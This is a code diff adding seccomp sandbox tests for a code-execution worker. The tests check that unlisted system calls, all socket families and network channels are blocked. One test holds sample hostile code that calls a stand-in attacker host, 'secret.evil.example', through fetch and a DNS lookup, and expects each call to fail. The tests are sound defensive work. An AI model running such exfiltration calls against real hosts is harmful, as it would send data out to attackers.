@@ -85,7 +85,7 @@ const KILLED: &[&str] = &[
 const DENIED: &[&str] = &["raise_limit", "mmap_huge"];
 
 /// Levels this kernel gives, found by trying.
-fn levels() -> Vec<&'static str> {
+pub(crate) fn levels() -> Vec<&'static str> {
     let full = Worker::start(&[]);
     let given = full.ready.level.clone();
     full.close();
@@ -93,16 +93,22 @@ fn levels() -> Vec<&'static str> {
 }
 
 /// Makes one raw call in the jail: what was said, the forbidden call that was named at last, and how it ended.
-fn attempt(level: &str, name: &str) -> (String, Option<u32>, ExitStatus) {
+pub(crate) fn attempt(level: &str, name: &str) -> (String, Option<u32>, ExitStatus) {
     let (mut ours, theirs) = UnixStream::pair().unwrap();
     let fd = theirs.as_raw_fd();
     let mut command = Command::new(env!("CARGO_BIN_EXE_athena-worker"));
     command.args(["__attack", level, name]).env_clear().stdin(Stdio::null());
     // SAFETY: dup2 is async-signal-safe, and clears close-on-exec on the copy.
     unsafe {
-        command.pre_exec(
-            move || if libc::dup2(fd, 3) < 0 { Err(std::io::Error::last_os_error()) } else { Ok(()) },
-        );
+        command.pre_exec(move || {
+            // Others are left open for the jail to close.
+            for copy in [3, 7, 63, 500] {
+                if libc::dup2(fd, copy) < 0 {
+                    return Err(std::io::Error::last_os_error());
+                }
+            }
+            Ok(())
+        });
     }
     let mut child = command.spawn().unwrap();
     drop(theirs);
@@ -120,6 +126,85 @@ fn attempt(level: &str, name: &str) -> (String, Option<u32>, ExitStatus) {
             (String::from_utf8(said).unwrap(), Some(call), status)
         }
         None => (String::from_utf8(said).unwrap(), None, status),
+    }
+}
+
+/// Whether the filter ended the process for it: nothing came back, and the end is named or outright.
+pub(crate) fn ended(level: &str, name: &str) -> bool {
+    let (said, named, status) = attempt(level, name);
+    let told = named.is_some() && status.code() == Some(athena_worker::FORBIDDEN);
+    said.len() == 2 && (told || signal(status) == Some(libc::SIGSYS))
+}
+
+/// Every system call there is, by its number: what is not on the list kills. (Arguments of those on the list are tried above.)
+#[test]
+#[cfg(target_arch = "x86_64")]
+fn stride_e04() {
+    // read, write, mmap, mprotect, prlimit64, tgkill and those of computing; 0 as every argument.
+    let mut listed = vec![
+        3, 7, 9, 10, 11, 12, 13, 14, 15, 24, 25, 28, 39, 60, 96, 98, 131, 186, 202, 219, 228, 231, 271, 302,
+        318,
+    ];
+    // `uretprobe` and `uprobe`, which the kernel answers before any filter, and only to its own trampolines.
+    listed.extend([335, 336]);
+    let mut died = 0;
+    for number in (0..=462).filter(|number| !listed.contains(number)) {
+        assert!(ended("seccomp", &format!("syscall:{number}")), "system call {number}");
+        died += 1;
+    }
+    assert!(died > 430, "{died}");
+}
+
+/// Every kind of socket there is: none can be made, at any level of the jail.
+#[test]
+fn stride_e05() {
+    for level in levels() {
+        for family in [
+            libc::AF_UNIX,
+            libc::AF_INET,
+            libc::AF_INET6,
+            libc::AF_NETLINK,
+            libc::AF_PACKET,
+            libc::AF_VSOCK,
+            libc::AF_ALG,
+            libc::AF_BLUETOOTH,
+            44,
+        ] {
+            for kind in [libc::SOCK_STREAM, libc::SOCK_DGRAM, libc::SOCK_RAW] {
+                assert!(ended(level, &format!("socket:{family},{kind}")), "{family} {kind} at {level}");
+            }
+        }
+    }
+}
+
+/// Names and abstract sockets as a channel: there is no resolver to ask and no socket to name, and where the kernel gives
+/// namespaces, no interface either.
+#[test]
+fn stride_e06() {
+    for level in levels() {
+        for attack in [
+            "socket_unix",
+            "connect",
+            "bind",
+            "sendmsg",
+            "recvmsg",
+            "syscall:44",
+            "syscall:307",
+            "syscall:299",
+        ] {
+            // `sendto` is on the list for the one socket there is; anything else is death.
+            assert!(ended(level, attack), "{attack} at {level}");
+        }
+    }
+    for (language, code) in [
+        (Language::JavaScript, "await import('dns')"),
+        (
+            Language::JavaScript,
+            "new URL('http://secret.evil.example/'); fetch('http://secret.evil.example/')",
+        ),
+        (Language::Python, "import socket\nsocket.getaddrinfo('secret.evil.example', 80)"),
+    ] {
+        assert!(Worker::start(&[]).run(job(language, code), echo).unwrap().finish.result.is_err(), "{code}");
     }
 }
 
@@ -445,7 +530,7 @@ fn survive(language: Language, cases: &[(&str, End)]) {
 }
 
 #[test]
-fn hostile_javascript_is_contained() {
+fn stride_e02_hostile_javascript_is_contained() {
     survive(Language::JavaScript, JAVASCRIPT);
 }
 
@@ -455,7 +540,7 @@ fn hostile_typescript_is_contained() {
 }
 
 #[test]
-fn hostile_python_is_contained() {
+fn stride_e03_hostile_python_is_contained() {
     survive(Language::Python, PYTHON);
 }
 
